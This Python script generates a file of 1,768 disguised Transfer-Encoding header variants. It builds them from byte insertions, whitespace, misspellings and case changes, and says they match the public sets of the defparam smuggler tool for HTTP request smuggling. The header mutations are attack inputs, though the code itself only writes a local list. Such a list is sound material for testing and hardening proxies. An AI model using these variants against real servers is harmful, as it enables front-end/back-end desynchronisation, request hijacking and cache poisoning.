r"""Writes te_mutations.txt: the ways in which a transfer-encoding field can be disguised.

A front that ignores a disguised field while the server behind honours it reads another message than
that server: that is request smuggling. The list has the same 1,768 entries, byte for byte, as the
three public sets of defparam's smuggler ("default" 134, "exhaustive" 668, "doubles" 966), made here
from the positions and the bytes that are put there.

Run it without arguments; it writes beside itself. Each line of the file is

    set/position-byte<TAB>field lines, escaped

where the escapes are \\, \t, \r, \n and \xNN. The field lines have no CR LF at their end. Python reads
them with ``read_mutations``.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

DATA = Path(__file__).with_name("te_mutations.txt")

# Where one byte is put; @ is the byte.
AROUND_NAME_AND_VALUE = {
    "value-start": "Transfer-Encoding:@chunked",
    "name-end": "Transfer-Encoding@: chunked",
    "name-start": "@Transfer-Encoding: chunked",
    "value-end": "Transfer-Encoding: chunked@",
}
BETWEEN_FIELDS = {
    "after-field": "X: X@Transfer-Encoding: chunked",
    "before-field": "Transfer-Encoding: chunked@X: X",
    "after-field-cr": "X: X\r@Transfer-Encoding: chunked",
    "after-field-lf": "X: X@\nTransfer-Encoding: chunked",
    "before-field-cr": "Transfer-Encoding: chunked\r@X: X",
    "before-field-lf": "Transfer-Encoding: chunked@\nX: X",
}
# Where the same byte is put twice.
PAIRS = {
    "name-start-name-end": "@Transfer-Encoding@: chunked",
    "name-start-value-start": "@Transfer-Encoding:@chunked",
    "name-start-value-end": "@Transfer-Encoding: chunked@",
    "name-end-value-start": "Transfer-Encoding@:@chunked",
    "name-end-value-end": "Transfer-Encoding@: chunked@",
    "value-start-value-end": "Transfer-Encoding:@chunked@",
}
WHITE_SPACE = {
    "leading-space": " Transfer-Encoding: chunked",
    "tab-before-value": "Transfer-Encoding:\tchunked",
    "tab-around-colon": "Transfer-Encoding\t:\tchunked",
    "space-before-colon": "Transfer-Encoding : chunked",
}
SPELLINGS = {
    "space-in-name": "Transfer Encoding: chunked",
    "underscore-in-name": "Transfer_Encoding: chunked",
    "space-in-name-no-space": "Transfer Encoding:chunked",
    "two-spaces": "Transfer-Encoding:  chunked",
    "vertical-tab": "Transfer-Encoding:\x0bchunked",
    "list-chunked-first": "Transfer-Encoding: chunked, cow",
    "list-chunked-last": "Transfer-Encoding: cow, chunked",
    "content-encoding": "Content-Encoding: chunked",
    "folded": "Transfer-Encoding:\n chunked",
    "double-quoted": 'Transfer-Encoding: "chunked"',
    "single-quoted": "Transfer-Encoding: 'chunked'",
    "cut-short": "Transfer-Encoding: chunk",
    "mixed-case": "TrAnSFer-EnCODinG: cHuNkeD",
    "upper-case": "TRANSFER-ENCODING: CHUNKED",
    "cr-at-end": "Transfer-Encoding: chunked\r",
    "tab-at-end": "Transfer-Encoding: chunked\t",
    "repeated": "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "cr-in-name": "Transfer\r-Encoding: chunked",
    "words": "Transfer-Encoding: cow chunked bar",
    "ff-before-value": "Transfer-Encoding:\xffchunked",
    "accent-in-value": "Transfer-Encoding: ch\x96nked",
    "accent-in-name": "Transf\x82r-Encoding: chunked",
    "cr-between-fields": "X:X\rTransfer-Encoding: chunked",
    "lf-between-fields": "X:X\nTransfer-Encoding: chunked",
}
TELLING_BYTES = [0x01, 0x04, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x7F, 0xA0, 0xFF]
HIGH_BYTES = range(0x7F, 0x100)


def mutations() -> Iterator[tuple[str, bytes]]:
    """Names and field lines, each byte above 0x7F as that one byte."""
    for name, text in WHITE_SPACE.items():
        yield f"default/{name}", text.encode("latin-1")
    yield from _placed("default", AROUND_NAME_AND_VALUE | BETWEEN_FIELDS, TELLING_BYTES)
    for name, text in (WHITE_SPACE | SPELLINGS).items():
        yield f"exhaustive/{name}", text.encode("latin-1")
    yield from _placed("exhaustive", AROUND_NAME_AND_VALUE, [*range(0x01, 0x20), *HIGH_BYTES])
    yield from _placed("doubles", PAIRS, [*range(0x01, 0x21), *HIGH_BYTES])


def _placed(family: str, positions: dict[str, str], values: list[int]) -> Iterator[tuple[str, bytes]]:
    for value in values:
        for name, text in positions.items():
            yield f"{family}/{name}-{value:02x}", text.replace("@", chr(value)).encode("latin-1")


def escape(field: bytes) -> str:
    """Visible ASCII as it is, a backslash doubled, everything else and a space at an end as an escape."""
    short = {0x09: "\\t", 0x0A: "\\n", 0x0D: "\\r", 0x5C: "\\\\"}
    text = [short.get(b) or (chr(b) if 0x20 <= b < 0x7F else f"\\x{b:02x}") for b in field]
    for end in (0, -1):
        text[end] = text[end].replace(" ", "\\x20")
    return "".join(text)


def read_mutations(path: Path = DATA) -> list[tuple[str, bytes]]:
    """The list from the file."""
    rows = (line.split("\t") for line in path.read_text("ascii").splitlines())
    return [(name, text.encode("ascii").decode("unicode_escape").encode("latin-1")) for name, text in rows]


def main() -> None:
    """Writes the file anew."""
    made = list(mutations())
    DATA.write_text("".join(f"{name}\t{escape(field)}\n" for name, field in made), "ascii")
    if read_mutations() != made:
        raise SystemExit(f"{DATA.name} does not read back as it was made")
    print(f"{len(made)} mutations written to {DATA.name}")


if __name__ == "__main__":
    main()
